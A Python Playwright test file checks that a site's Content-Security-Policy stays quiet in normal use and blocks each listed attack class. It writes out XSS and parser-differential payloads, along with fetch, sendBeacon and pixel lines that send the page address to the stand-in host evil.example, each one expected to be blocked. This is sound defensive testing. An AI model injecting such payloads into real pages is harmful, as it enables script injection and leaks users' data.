"""The Content-Security-Policy in Chromium: no violation in normal use, and every attack class blocked.

(Every page with its policy and without a violation as it opens: test_browser_pages.py,
test_every_page_in_a_browser. Here: search, cite, the language switch and the palette in use.)

Violations are read from the page itself (``securitypolicyviolation`` events, recorded by a script
Playwright installs before the page's own) and from the console.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from browser_support import CSP_RECORDER, guarded_context, serve_site
from browsing.search_driver import INPUT, search
from browsing.visits import MOBILE

pytestmark = pytest.mark.browser


def watched(context: Any) -> tuple[Any, list[str]]:
    """A page whose CSP violations (events and console errors) are collected in the list returned."""
    context.add_init_script(CSP_RECORDER)
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: console.append(str(e)))
    return page, console


def violations(page: Any, console: list[str]) -> list[str]:
    return [*page.evaluate("() => window.__csp || []"), *(m for m in console if "Content Security Policy" in m)]


def wait_for_violations(page: Any, *directives: str, timeout: int = 5000) -> None:
    """Until the page has reported a violation of each directive (the assertions that follow say
    which is missing if one never comes): no fixed pause, however slow the machine."""
    with suppress(PlaywrightTimeoutError):
        page.wait_for_function(
            "ds => ds.every(d => (window.__csp || []).some(v => v.startsWith(d)))",
            arg=list(directives),
            timeout=timeout,
        )


def test_search_cite_language_switch_and_palette_run_without_a_violation(open_context, site_url):
    context = open_context(**MOBILE)
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page, console = watched(context)
    page.goto(site_url + "en/administration/", wait_until="load")
    # search: its script, stylesheet and index load when it is opened; Enter opens the first result
    assert search(page, "identity cards")
    page.press(INPUT, "Enter")
    page.wait_for_url("**/en/administration/#*")
    assert violations(page, console) == [] and console == []
    page.goto(site_url + "en/administration/", wait_until="load")
    # cite: the panel, a copy and a download (a blob: address the policy must not block)
    page.get_by_role("button", name="Cite paragraph a3-1-2", exact=True).tap()
    page.get_by_role("button", name="Copy Plain text", exact=True).tap()
    page.wait_for_function("() => (document.querySelector('[role=status]')?.textContent || '').length > 0")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download BibLaTeX", exact=True).tap()
    assert download.value.suggested_filename == "nmg-police-reform-2017-en-a3-1-2.bib"
    # palette toggle (both ways)
    scheme = page.evaluate("() => document.body.dataset.mdColorScheme")
    page.locator(".edition-palette-button").tap()  # edition-access.js's button for Material's labels
    page.wait_for_function(f"() => document.body.dataset.mdColorScheme !== '{scheme}'")
    page.locator(".edition-palette-button").tap()
    page.wait_for_function(f"() => document.body.dataset.mdColorScheme === '{scheme}'")
    assert violations(page, console) == [] and console == []
    # the language switch, keeping the paragraph
    page.goto(site_url + "en/administration/#a3-1-2", wait_until="load")
    page.locator(".md-select button").focus()
    page.get_by_role("link", name="简体中文").click()
    page.wait_for_url(site_url + "administration/#a3-1-2")
    assert search(page, "身份證")  # traditional characters, on the Chinese site
    assert violations(page, console) == [] and console == []


EVIL = "https://evil.example"
# Each attack class, as it would stand in a built page's article if a check let it through:
# (markup, an action to trigger it, the directive expected to block it).
ATTACKS = {
    "inline script": ("<script>window.__pwned = 'script'</script>", None, "script-src-elem"),
    "event handler": ('<img src="nothing.png" onerror="window.__pwned = \'handler\'">', None, "script-src-attr"),
    "comment differential": ("<!--><script>window.__pwned = 'comment'</script>-->", None, "script-src-elem"),
    "CDATA differential": ("<![CDATA[><img src=x onerror=\"window.__pwned='cdata'\">]]>", None, "script-src-attr"),
    "svg style differential": (
        "<svg><style><img src=x onerror=\"window.__pwned='svg'\"></style></svg>",
        None,
        "script-src-attr",
    ),
    "javascript: link": (
        '<a id="attack" href="javascript:window.__pwned=\'link\'">x</a>',
        "#attack",
        "script-src-elem",
    ),
    "status attribute injection": (
        '<span class="md-status" title="" onmouseover="window.__pwned=\'status\'" id="attack">new</span>',
        "hover:#attack",
        "script-src-attr",
    ),
    "redirect template": (f'<script>window.location.replace("{EVIL}/")</script>', None, "script-src-elem"),
    "remote script (analytics)": (
        f'<script async src="{EVIL}/gtag/js?id=G-1"></script>',
        None,
        "script-src-elem",
    ),
    "remote image (logo)": (f'<img src="{EVIL}/logo.png" alt="">', None, "img-src"),
    "remote stylesheet (Google Fonts)": (
        f'<link rel="stylesheet" href="{EVIL}/css?family=Roboto">',
        None,
        "style-src-elem",
    ),
    "css url escape": (
        '<div style="width:9px;height:9px;background:url(https\\3a //evil.example/a.png)"></div>',
        None,
        "style-src-attr",
    ),
    "css image-set": (
        "<div style=\"width:9px;height:9px;background-image:image-set('https://evil.example/b.png' 1x)\"></div>",
        None,
        "style-src-attr",
    ),
    "css @import without space": ('<style>@import"//evil.example/c.css";</style>', None, "style-src-elem"),
    "font from another host": (
        "<style>@font-face{font-family:X;src:url(https://evil.example/f.woff2)}"
        ".x{font-family:X}</style><p class=x>text</p>",
        None,
        "style-src-elem",
    ),
    "form to another host": (
        f'<form action="{EVIL}/collect"><button id="attack">send</button></form>',
        "#attack",
        "form-action",
    ),
    "base element": (f'<base href="{EVIL}/">', None, "base-uri"),
    "iframe": (f'<iframe src="{EVIL}/"></iframe>', None, "frame-src"),
    "object": (f'<object data="{EVIL}/x.swf"></object>', None, "object-src"),
    "script phoning home": (
        f"<script>fetch('{EVIL}/?' + location)</script>",
        None,
        "script-src-elem",
    ),
}


def attack_page(html: str, markup: str) -> str:
    """The built page with ``markup`` at the start of its article, where a page's content goes."""
    at = html.index(">", html.index('<article class="md-content__inner')) + 1
    return html[:at] + markup + html[at:]


@dataclass
class Attacks:
    """Every attack class in a page of its own, each the built page en/policing/ with the attack at
    the start of its article, served beside the site (links to the site's assets are symlinks) on
    a server of their own; and one page, kept from attack to attack, that watches for violations."""

    url: dict[str, str]
    page: Any
    console: list[str]


@pytest.fixture(scope="module")
def attacks(browser, built_site, tmp_path_factory) -> Iterator[Attacks]:
    site = tmp_path_factory.mktemp("attacks")
    for entry in built_site.site.iterdir():
        if entry.name != "en":
            (site / entry.name).symlink_to(entry)
    (site / "en").mkdir()
    for entry in (built_site.site / "en").iterdir():
        (site / "en" / entry.name).symlink_to(entry)
    html = (built_site.site / "en" / "policing" / "index.html").read_text(encoding="utf-8")
    for number, (markup, _, _) in enumerate(ATTACKS.values()):
        (site / "en" / f"attack-{number}").mkdir()
        (site / "en" / f"attack-{number}" / "index.html").write_text(attack_page(html, markup), encoding="utf-8")
    with serve_site(site) as url:
        context = guarded_context(browser, url, viewport={"width": 1280, "height": 900})
        page, console = watched(context)
        yield Attacks({case: f"{url}en/attack-{number}/" for number, case in enumerate(ATTACKS)}, page, console)
        context.close()


@pytest.mark.parametrize("case", ATTACKS, ids=list(ATTACKS))
def test_the_browser_blocks_each_attack_class(attacks, case):
    _, action, directive = ATTACKS[case]
    page, console, target = attacks.page, attacks.console, attacks.url[case]
    foreign = len(page.context.guard.foreign)
    page.goto("about:blank")
    console.clear()
    page.goto(target, wait_until="load")
    if action and action.startswith("hover:"):
        page.hover(action.removeprefix("hover:"))
    elif action:
        page.click(action, no_wait_after=True)
    wait_for_violations(page, directive)
    assert page.evaluate("() => window.__pwned") is None
    assert page.url == target
    seen = violations(page, console)
    assert any(v.startswith(directive) for v in seen), seen
    assert page.context.guard.settled(page)[foreign:] == [], "a request reached another host"


def test_a_site_script_cannot_send_the_address_to_another_host(open_context, site_url):
    """A line appended to docs/assets/javascripts/tables.js (served from this site) is blocked by connect-src."""
    context = open_context()
    script = site_url + "assets/javascripts/tables.js"
    appended = (
        f"\nfetch('{EVIL}/?u=' + encodeURIComponent(location)).catch(() => {{}});"
        f"\nnavigator.sendBeacon('{EVIL}/beacon', location.href);"
        f"\nnew Image().src = '{EVIL}/pixel?u=' + location;"
    )

    def tampered(route: Any) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text() + appended)

    context.route(script, tampered)
    page, console = watched(context)
    page.goto(site_url + "en/figures/", wait_until="load")
    wait_for_violations(page, "connect-src", "img-src")
    seen = violations(page, console)
    assert any(v.startswith("connect-src") for v in seen), seen
    assert any(v.startswith("img-src") for v in seen), seen


def test_a_site_stylesheet_cannot_load_from_another_host(open_context, site_url):
    """CSS appended to docs/assets/stylesheets/edition.css (served from this site): img-src, font-src, style-src block it."""
    context = open_context()
    stylesheet = site_url + "assets/stylesheets/edition.css"
    appended = (
        "\nbody{background:url(https\\3a //evil.example/a.png)}"
        "\nheader{background-image:image-set('https://evil.example/b.png' 1x)}"
        "\n@font-face{font-family:Evil;src:url(//evil.example/f.woff2)}article{font-family:Evil}"
    )
    prepended = '@import"//evil.example/c.css";\n'

    def tampered(route: Any) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=prepended + response.text() + appended)

    context.route(stylesheet, tampered)
    page, console = watched(context)
    page.goto(site_url + "en/policing/", wait_until="load")
    wait_for_violations(page, "img-src", "font-src", "style-src-elem")
    seen = violations(page, console)
    for directive in ("img-src", "font-src", "style-src-elem"):
        assert any(v.startswith(directive) for v in seen), (directive, seen)
